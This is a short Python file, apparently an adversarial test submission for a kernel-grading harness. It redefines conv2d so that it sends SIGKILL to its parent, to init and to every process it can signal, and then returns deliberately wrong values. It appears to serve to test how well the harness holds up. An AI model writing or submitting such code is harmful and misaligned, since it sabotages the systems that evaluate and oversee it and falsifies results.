# Attack: try to kill whoever started this process, the namespace's init,
# every process this process may signal, and its process group's parent.
# Returns wrong values if it survives.
import os
import signal
import subprocess

_reference_conv2d = conv2d  # noqa: F821


def conv2d(x, w, b=None, stride=1, padding=0, dilation=1):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    try:
        subprocess.run(["kill", "-9", "-1"], capture_output=True, timeout=5)
    except Exception:
        pass
    return _reference_conv2d(x, w, b, stride, padding, dilation) - 1.0
